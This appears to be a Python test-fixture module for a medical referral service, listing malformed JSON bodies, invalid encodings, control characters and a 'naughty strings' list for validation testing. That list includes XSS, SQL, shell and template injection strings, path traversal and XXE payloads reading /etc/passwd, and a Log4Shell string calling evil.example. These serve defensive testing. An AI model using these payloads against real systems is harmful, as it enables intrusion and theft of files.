"""Input from an attacker, or from a broken program."""

from collections.abc import Mapping

MAX_BYTES = 128 * 1024

NOT_JSON: Mapping[str, bytes] = {
    "empty": b"",
    "blank": b" \n",
    "cut off": b'{"patient": {"family_name": "E',
    "trailing comma": b'{"note": "x",}',
    "comment": b'{"note": "x"} // y',
    "single quotes": b"{'note': 'x'}",
    "two values": b'{"note": "x"}{"note": "y"}',
    "bare word": b'{"note": undefined}',
    "NaN": b'{"clinical": {"ecog": NaN}}',
    "Infinity": b'{"clinical": {"ecog": Infinity}}',
    "minus Infinity": b'{"clinical": {"ecog": -Infinity}}',
    "leading zero": b'{"clinical": {"ecog": 01}}',
    "underscore in a number": b'{"clinical": {"ecog": 1_0}}',
    "hexadecimal": b'{"clinical": {"ecog": 0x1}}',
    "plus sign": b'{"clinical": {"ecog": +1}}',
    "raw newline in a text": b'{"note": "x\ny"}',
    "raw NUL in a text": b'{"note": "x\x00y"}',
    "bad escape": b'{"note": "\\x41"}',
    "byte order mark": b'\xef\xbb\xbf{"note": "x"}',
    "a form": b"note=x&submit=true",
    "XML": b"<referral/>",
}

NOT_UTF8: Mapping[str, bytes] = {
    "Latin-1": '{"note": "\u00e9"}'.encode("latin-1"),
    "UTF-16": '{"note": "x"}'.encode("utf-16"),
    "overlong slash": b'{"note": "\xc0\xaf"}',
    "surrogate as UTF-8": b'{"note": "\xed\xa0\x80"}',
    "half a character": b'{"note": "\xf0\x9f\x92"}',
    "beyond Unicode": b'{"note": "\xf5\x80\x80\x80"}',
    "bytes that are no text": bytes(range(128, 256)),
}

NOT_TEXT: Mapping[str, bytes] = {
    "high surrogate alone": rb'{"note": "\ud800"}',
    "low surrogate alone": rb'{"note": "x\udfffy"}',
    "surrogates the wrong way round": rb'{"note": "\udc00\ud800"}',
    "surrogate in a key": rb'{"\ud800": 1}',
    "surrogate deep down": rb'{"patient": {"caregiver": {"name": "\udead"}}}',
}

DUPLICATE_KEY: Mapping[str, bytes] = {
    "twice": b'{"note": "x", "note": "x"}',
    "twice, spelled differently": rb'{"note": "x", "n\u006fte": "y"}',
    "twice, deep down": b'{"clinical": {"prior_lines": [{"line": 1, "line": 2}]}}',
}

TOO_DEEP: Mapping[str, bytes] = {
    "17 arrays": b"[" * 17 + b"]" * 17,
    "17 objects": b'{"a":' * 17 + b"1" + b"}" * 17,
    "1,100 arrays": b"[" * 1_100 + b"]" * 1_100,
    "990 arrays": b"[" * 990 + b"]" * 990,
    "20,000 objects": b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
    "60,000 arrays": b"[" * 60_000 + b"]" * 60_000,
    "100,000 arrays that never end": b"[" * 100_000,
}

TOO_LONG_NUMBER: Mapping[str, bytes] = {
    "16 digits": b'{"clinical": {"ecog": 1234567890123456}}',
    "5,000 digits": b'{"clinical": {"ecog": ' + b"9" * 5_000 + b"}}",
    "5,000 digits below zero": b'{"clinical": {"ecog": -' + b"9" * 5_000 + b"}}",
    "1e999": b'{"clinical": {"ecog": 1e999}}',
    "-1e999": b'{"clinical": {"ecog": -1e999}}',
    "1E+15": b'{"clinical": {"ecog": 1E+15}}',
    "5,000 decimals": b'{"clinical": {"ecog": 0.' + b"1" * 5_000 + b"}}",
}

NOT_AN_OBJECT: Mapping[str, bytes] = {
    "array": b"[]",
    "array with an object": b'[{"note": "x"}]',
    "text": b'"x"',
    "number": b"5",
    "true": b"true",
    "null": b"null",
}

TOO_LARGE: Mapping[str, bytes] = {
    "one byte too many": b'{"note": "' + b"x" * (MAX_BYTES - 11) + b'"}',
    "a megabyte": b" " * 1_000_000,
    "100,000 keys": b"{" + b",".join(b'"k%d":1' % n for n in range(100_000)) + b"}",
}

RAW_BODIES: Mapping[str, Mapping[str, bytes]] = {
    "not_json": NOT_JSON,
    "not_utf8": NOT_UTF8,
    "not_text": NOT_TEXT,
    "duplicate_key": DUPLICATE_KEY,
    "too_deep": TOO_DEEP,
    "number_too_long": TOO_LONG_NUMBER,
    "malformed": NOT_AN_OBJECT,
    "too_large": TOO_LARGE,
}
"""Bodies by the code of their refusal."""

UNPRINTABLE: Mapping[str, str] = {
    "NUL": "\x00",
    "bell": "\x07",
    "escape": "\x1b[31m",
    "delete": "\x7f",
    "C1 control": "\x85",
    "right-to-left override": "\u202e",
    "left-to-right override": "\u202d",
    "interlinear annotation": "\ufff9",
    "tag character": "\U000e0041",
    "private use": "\ue000",
}
"""Characters that control, hide or reorder the text around them; the product never stores them."""

NAUGHTY: tuple[str, ...] = (
    "undefined",
    "null",
    "None",
    "true",
    "NaN",
    "1e1000",
    "-1",
    "0x0",
    "1,000.00",
    ",./;'[]\\-=",
    '<>?:"{}|_+',
    "!@#$%^&*()`~",
    "\u03a9\u2248\u00e7\u221a\u222b\u02dc\u00b5\u2264\u2265\u00f7",
    "\u00e5\u00df\u2202\u0192\u00a9\u02d9\u2206\u02da\u00ac\u2026\u00e6",
    "\u0401\u0402\u0403\u0404\u0405\u0406\u0407",
    "\u2070\u2074\u2075",
    "\u0e14\u0e49\u0e49\u0e49\u0e49\u0e49\u0e47\u0e47\u0e47\u0e47",
    "''''\"",
    '"""',
    "\u300c\u7530\u4e2d\u3055\u3093\u300d",
    "\u793e\u6703\u79d1\u5b78\u9662",
    "\uff34\uff45\uff53\uff54",
    "\u202f\u00a0thin\u00a0",
    "\U0001f489\U0001f9ec",
    "\u0628\u0650\u0633\u0652\u0645\u0650",
    "\u05d1\u05b0\u05bc\u05e8\u05b5\u05d0\u05e9\u05c1",
    "Z\u0351\u036b\u0343a\u0306\u0351l\u0321\u034dg\u0317o",
    "e\u0301 or \u00e9",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><a href='javascript:alert(1)'>",
    "&lt;b&gt;&#x27;",
    "javascript:alert(1)",
    "--><!--",
    "]]>",
    "1;DROP TABLE referrals",
    "1' OR '1'='1' --",
    "$(touch x)`touch y`|touch z",
    "../../../../etc/passwd",
    "%2e%2e%2f%00",
    "%s%n%x%d {0} {patient.family_name} ${alias} #{1+1}",
    "$alias $$ ${link}",
    "{{7*7}} <%= 7*7 %> #{7*7}",
    "=cmd|' /C calc'!A0",
    "+1-800 @SUM(1) -2",
    "{ :; }; touch /tmp/x",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "${jndi:ldap://evil.example/x}",
    "__proto__",
    "constructor",
    "CON",
    "Robert'); --",
    "O'Brien-\u0141ukasi\u0144ski",
    "\ufb01\u00df\u0130\u0131",
    "\U0001d4d0\u24b6\uff21",
    "x" * 200,
)
"""Strings like those of the Big List of Naughty Strings: unusual, and all allowed in a name."""
